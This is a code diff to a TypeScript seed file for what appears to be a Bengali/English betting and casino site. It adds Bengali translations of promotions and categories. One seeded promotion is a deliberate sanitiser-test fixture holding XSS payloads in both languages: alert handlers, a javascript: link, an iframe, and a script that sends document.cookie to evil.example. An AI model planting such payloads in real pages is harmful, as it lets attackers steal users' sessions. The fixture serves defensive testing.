@@ -2,9 +2,12 @@
 // fresh-database seed: promotion categories and promotions (every flag combination, a long-term one, one not
 // applicable, one ended, one not yet started, one carrying hostile HTML), the help centre and the site's
 // marketing copy in Bengali and English, customer-service entries, download and social links, chat anchors and
-// demo01's unread welcome message. Promotion and announcement text is the merchant's CMS copy in English.
+// demo01's unread welcome message. Promotions and categories are written in English, the merchant's CMS copy,
+// with their Bengali texts beside them (seedPromotionTranslations).
 import { getRow, run, transaction } from './database.ts';
+import { writeTranslation } from './content-texts.ts';
 import type { Db } from './database.ts';
+import type { ContentText } from './content-texts.ts';
 import { CONTENT_LANGUAGES } from '../lib/language.ts';
 import type { ContentLanguage } from '../lib/language.ts';
 import type { CustomerServiceType, ResourceType, YesNo } from 'shared/contract';
@@ -13,19 +16,24 @@ const DAY = 24 * 60 * 60 * 1000;
 
 // ---------- promotions ----------
 
-/** [id, title, icon label, hue]: the icons are generated at /static/promotion-categories/<id>.svg. */
-const CATEGORIES: [number, string, string, number][] = [
-  [1, 'New Members', 'NEW', 140],
-  [2, 'Deposit Bonus', '৳', 40],
-  [3, 'Slots & Casino', '777', 330],
-  [4, 'Sports', 'VS', 200],
-  [5, 'VIP', 'VIP', 275],
+/**
+ * [id, English title, Bengali title, icon label, hue]: the icons are generated at
+ * /static/promotion-categories/<id>.svg.
+ */
+const CATEGORIES: [number, string, string, string, number][] = [
+  [1, 'New Members', 'নতুন সদস্য', 'NEW', 140],
+  [2, 'Deposit Bonus', 'জমা বোনাস', '৳', 40],
+  [3, 'Slots & Casino', 'স্লট ও ক্যাসিনো', '777', 330],
+  [4, 'Sports', 'স্পোর্টস', 'VS', 200],
+  [5, 'VIP', 'ভিআইপি', 'VIP', 275],
 ];
 
 interface PromotionSeed {
   id: number;
+  /** The English text: the promotion row's own. */
   title: string;
   content: string;
+  bn: ContentText;
   /** Days from the seeding time (negative: in the past). */
   startDays: number;
   /** Days from the seeding time; null = no end date (noExpiry 1). */
@@ -38,16 +46,27 @@ interface PromotionSeed {
   hue: number;
 }
 
-/** Hostile markup the site's sanitiser must neutralise (kept verbatim by the API). */
-const HOSTILE_PROMOTION_HTML = [
-  '<h3>Lucky Spin Festival</h3>',
-  '<p>Spin the lucky wheel once a day and win up to <strong>৳5,000</strong> in bonus money.</p>',
-  `<img src="x" onerror="alert('promo-xss')">`,
-  `<script>document.location='https://evil.example/steal?c='+document.cookie</script>`,
-  `<p><a href="javascript:alert('promo-xss')">Claim now</a></p>`,
-  '<iframe src="https://evil.example/frame"></iframe>',
-  `<p onclick="alert('promo-xss')">Tap here for the full terms.</p>`,
-].join('');
+/** Hostile markup the site's sanitiser must neutralise (kept verbatim by the API), in both languages. */
+const HOSTILE_PROMOTION_HTML = {
+  en: [
+    '<h3>Lucky Spin Festival</h3>',
+    '<p>Spin the lucky wheel once a day and win up to <strong>৳5,000</strong> in bonus money.</p>',
+    `<img src="x" onerror="alert('promo-xss')">`,
+    `<script>document.location='https://evil.example/steal?c='+document.cookie</script>`,
+    `<p><a href="javascript:alert('promo-xss')">Claim now</a></p>`,
+    '<iframe src="https://evil.example/frame"></iframe>',
+    `<p onclick="alert('promo-xss')">Tap here for the full terms.</p>`,
+  ].join(''),
+  bn: [
+    '<h3>লাকি স্পিন উৎসব</h3>',
+    '<p>দিনে একবার লাকি হুইল ঘোরান আর জিতে নিন সর্বোচ্চ <strong>৳৫,০০০</strong> বোনাস।</p>',
+    `<img src="x" onerror="alert('promo-xss')">`,
+    `<script>document.location='https://evil.example/steal?c='+document.cookie</script>`,
+    `<p><a href="javascript:alert('promo-xss')">এখনই নিন</a></p>`,
+    '<iframe src="https://evil.example/frame"></iframe>',
+    `<p onclick="alert('promo-xss')">সম্পূর্ণ শর্তাবলী দেখতে এখানে চাপুন।</p>`,
+  ].join(''),
+};
 
 const PROMOTIONS: PromotionSeed[] = [
   {
@@ -58,6 +77,14 @@ const PROMOTIONS: PromotionSeed[] = [
       '<strong>৳10,000</strong>.</p><ul><li>New members only, one bonus per person</li><li>Turnover x10 before ' +
       'withdrawal</li><li>Attach a screenshot of your bKash or Nagad payment and write your transaction ID in ' +
       'the remark</li></ul>',
+    bn: {
+      title: 'প্রথম জমায় ১০০% বোনাস',
+      content:
+        '<h3>প্রথম জমা হবে দ্বিগুণ</h3><p>৳৫০০ বা তার বেশি প্রথম জমা দিন, আমরা তার ১০০% মিলিয়ে দেব, সর্বোচ্চ ' +
+        '<strong>৳১০,০০০</strong>।</p><ul><li>শুধু নতুন সদস্যদের জন্য, জনপ্রতি একটি বোনাস</li><li>উত্তোলনের আগে ' +
+        '১০ গুণ টার্নওভার</li><li>বিকাশ বা নগদ পেমেন্টের স্ক্রিনশট সংযুক্ত করুন এবং মন্তব্যে ট্রানজ্যাকশন আইডি ' +
+        'লিখুন</li></ul>',
+    },
     startDays: -30,
     endDays: 60,
     categoryIds: [1, 2],
@@ -73,6 +100,12 @@ const PROMOTIONS: PromotionSeed[] = [
     content:
       '<h3>Every Saturday and Sunday</h3><p>Reload ৳1,000 or more at the weekend and get a <strong>50%</strong> ' +
       'bonus up to ৳5,000.</p><ul><li>Attach a screenshot of the deposit</li><li>Turnover x8</li></ul>',
+    bn: {
+      title: 'উইকেন্ড রিলোড ৫০%',
+      content:
+        '<h3>প্রতি শনি ও রবিবার</h3><p>সপ্তাহান্তে ৳১,০০০ বা তার বেশি রিলোড করুন আর সর্বোচ্চ ৳৫,০০০ পর্যন্ত ' +
+        '<strong>৫০%</strong> বোনাস পান।</p><ul><li>জমার স্ক্রিনশট সংযুক্ত করুন</li><li>৮ গুণ টার্নওভার</li></ul>',
+    },
     startDays: -14,
     endDays: 30,
     categoryIds: [2],
@@ -88,6 +121,12 @@ const PROMOTIONS: PromotionSeed[] = [
     content:
       '<h3>Cashback on every slot spin</h3><p>Get <strong>1.2%</strong> of your daily slot turnover back, no ' +
       'matter if you win or lose.</p><p>Write your favourite slot game in the remark to apply.</p>',
+    bn: {
+      title: 'স্লটে প্রতিদিন ১.২% ক্যাশব্যাক',
+      content:
+        '<h3>প্রতিটি স্লট স্পিনে ক্যাশব্যাক</h3><p>জিতুন বা হারুন, প্রতিদিনের স্লট টার্নওভারের <strong>১.২%</strong> ' +
+        'ফেরত পান।</p><p>আবেদন করতে মন্তব্যে আপনার প্রিয় স্লট গেমের নাম লিখুন।</p>',
+    },
     startDays: -60,
     endDays: 90,
     categoryIds: [3],
@@ -103,6 +142,12 @@ const PROMOTIONS: PromotionSeed[] = [
     content:
       '<h3>One leg lost? Get your stake back</h3><p>Place a cricket accumulator of 4 legs or more; if exactly ' +
       'one leg loses we refund your stake up to <strong>৳2,000</strong> as a bonus.</p>',
+    bn: {
+      title: 'ক্রিকেট অ্যাকুমুলেটর ইন্স্যুরেন্স',
+      content:
+        '<h3>এক লেগ হারলেও স্টেক ফেরত</h3><p>৪ বা তার বেশি লেগের ক্রিকেট অ্যাকুমুলেটর বাজি ধরুন; ঠিক একটি লেগ ' +
+        'হারলে আপনার স্টেক সর্বোচ্চ <strong>৳২,০০০</strong> পর্যন্ত বোনাস হিসেবে ফেরত দেওয়া হবে।</p>',
+    },
     startDays: -7,
     endDays: 21,
     categoryIds: [4],
@@ -118,6 +163,12 @@ const PROMOTIONS: PromotionSeed[] = [
     content:
       '<h3>A rebate every week, for good</h3><p>VIP members get up to <strong>1.5%</strong> of their weekly ' +
       'valid bets back every Monday. Long-term offer with no end date.</p>',
+    bn: {
+      title: 'ভিআইপি সাপ্তাহিক রিবেট',
+      content:
+        '<h3>প্রতি সপ্তাহে রিবেট, চিরকাল</h3><p>ভিআইপি সদস্যরা প্রতি সোমবার সাপ্তাহিক বৈধ বাজির সর্বোচ্চ ' +
+        '<strong>১.৫%</strong> ফেরত পান। কোনো শেষ তারিখ নেই, দীর্ঘমেয়াদি অফার।</p>',
+    },
     startDays: -180,
     endDays: null,
     categoryIds: [5, 3],
@@ -133,6 +184,13 @@ const PROMOTIONS: PromotionSeed[] = [
     content:
       '<h3>Invite friends, earn together</h3><p>Share your referral link from <em>Invite Friends</em>. When your ' +
       'friend deposits ৳1,000 you both get ৳500. Credited automatically: no application needed.</p>',
+    bn: {
+      title: 'বন্ধুকে রেফার করুন: দুজনেই ৳৫০০',
+      content:
+        '<h3>বন্ধুদের আমন্ত্রণ জানান, একসাথে আয় করুন</h3><p><em>বন্ধুদের আমন্ত্রণ</em> থেকে আপনার রেফারেল লিংক ' +
+        'শেয়ার করুন। আপনার বন্ধু ৳১,০০০ জমা দিলে আপনারা দুজনেই ৳৫০০ পাবেন। টাকা নিজে থেকেই যোগ হয়: আবেদনের ' +
+        'দরকার নেই।</p>',
+    },
     startDays: -90,
     endDays: 180,
     categoryIds: [1],
@@ -146,6 +204,10 @@ const PROMOTIONS: PromotionSeed[] = [
     id: 7,
     title: 'Eid Mubarak Reload 30%',
     content: '<h3>Eid Mubarak!</h3><p>30% reload bonus during the Eid holidays, up to ৳3,000.</p>',
+    bn: {
+      title: 'ঈদ মোবারক রিলোড ৩০%',
+      content: '<h3>ঈদ মোবারক!</h3><p>ঈদের ছুটিতে ৩০% রিলোড বোনাস, সর্বোচ্চ ৳৩,০০০।</p>',
+    },
     startDays: -40,
     endDays: -5,
     categoryIds: [2],
@@ -158,7 +220,11 @@ const PROMOTIONS: PromotionSeed[] = [
   {
     id: 8,
     title: 'Lucky Spin Festival',
-    content: HOSTILE_PROMOTION_HTML,
+    content: HOSTILE_PROMOTION_HTML.en,
+    bn: {
+      title: 'লাকি স্পিন উৎসব',
+      content: HOSTILE_PROMOTION_HTML.bn,
+    },
     startDays: -3,
     endDays: 14,
     categoryIds: [3],
@@ -172,6 +238,10 @@ const PROMOTIONS: PromotionSeed[] = [
     id: 9,
     title: 'Pohela Boishakh Bonus',
     content: '<h3>Shubho Noboborsho!</h3><p>A 20% New Year bonus on every deposit for three days.</p>',
+    bn: {
+      title: 'পহেলা বৈশাখ বোনাস',
+      content: '<h3>শুভ নববর্ষ!</h3><p>টানা তিন দিন প্রতিটি জমায় ২০% নববর্ষ বোনাস।</p>',
+    },
     startDays: 10,
     endDays: 40,
     categoryIds: [2],
@@ -565,7 +635,7 @@ export const CHAT_WELCOME =
 // ---------- writing ----------
 
 function seedPromotions(db: Db, now: number): void {
-  CATEGORIES.forEach(([id, title, label, hue], index) => {
+  CATEGORIES.forEach(([id, title, , label, hue], index) => {
     run(
       db,
       'INSERT INTO promotion_categories (id, title, icon_label, hue, sequence) VALUES (?, ?, ?, ?, ?)',
@@ -703,6 +773,17 @@ function seedChat(db: Db, now: number): void {
       now - DAY,
     );
   }
+}
+
+/**
+ * The Bengali texts of the seeded promotions and categories (migration 016's table). Apart from seedContent:
+ * migration 008 writes the content of an older database with that function, before the table exists.
+ */
+export function seedPromotionTranslations(db: Db): void {
+  for (const [id, , title] of CATEGORIES) {
+    writeTranslation(db, 'promotion_category', id, 'bn', { title, content: '' });
+  }
+  for (const promotion of PROMOTIONS) writeTranslation(db, 'promotion', promotion.id, 'bn', promotion.bn);
 }
 
 /** Writes the content once: a database that already has promotions is left alone. */
